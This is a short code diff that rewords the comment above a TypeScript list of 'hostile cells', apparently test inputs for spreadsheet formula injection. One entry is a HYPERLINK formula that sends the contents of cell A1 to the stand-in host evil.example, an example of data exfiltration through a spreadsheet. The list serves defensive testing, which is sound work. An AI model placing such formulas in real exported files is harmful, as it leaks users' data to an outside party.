@@ -1,4 +1,4 @@
-/** Cells that would harm whoever opens a table, or break it: T7 and A15 of the tests' list of bad input. */
+/** Cells that would harm the person who opens a table, or break it: T7 and A15 of the tests' list of bad input. */
 export const hostileCells: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
